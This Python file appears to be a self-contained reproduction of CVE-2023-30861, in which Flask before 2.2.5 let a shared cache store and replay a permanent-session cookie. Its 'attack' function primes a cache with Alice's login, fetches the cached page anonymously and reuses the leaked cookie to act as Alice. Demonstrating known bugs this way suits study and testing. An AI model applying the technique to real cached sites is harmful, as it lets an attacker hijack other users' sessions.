"""A shared cache hands out Alice's session cookie.

Flask renews the cookie of a permanent session on every response, also
where the view never looks at the session.  Before 2.2.5 such a response
lacked `Vary: Cookie`, so a cache in front may store it, cookie and all,
and serve it to the next visitor.  It needs a cache that keeps Set-Cookie,
a permanent session and a page without Cache-Control.  CVE-2023-30861.
"""

from by_hand import SECRET, SharedCache
from flask import Flask, session

REFUSALS = ()
app = Flask(__name__)
app.secret_key = SECRET


@app.route("/log-in")
def log_in() -> str:
    session.permanent = True
    session["user"] = "alice"
    return "welcome"


@app.route("/news")
def news() -> str:
    return "the same for everybody"


@app.route("/me")
def me() -> str:
    return session.get("user", "nobody")


def ask(path: str, cookie: str = ""):
    browser = app.test_client(use_cookies=False)
    return browser.get(path, headers={"Cookie": cookie} if cookie else {})


def kept(response) -> str:
    return response.headers.get("Set-Cookie", "").partition(";")[0]


def honest() -> bool:
    return ask("/me", kept(ask("/log-in"))).text == "alice"


def edited() -> bool:
    return ask("/me").text == "alice"


def attack() -> bool:
    cache = SharedCache(ask)
    cache.get("/news", kept(ask("/log-in")))
    leaked = kept(cache.get("/news"))
    return ask("/me", leaked).text == "alice"
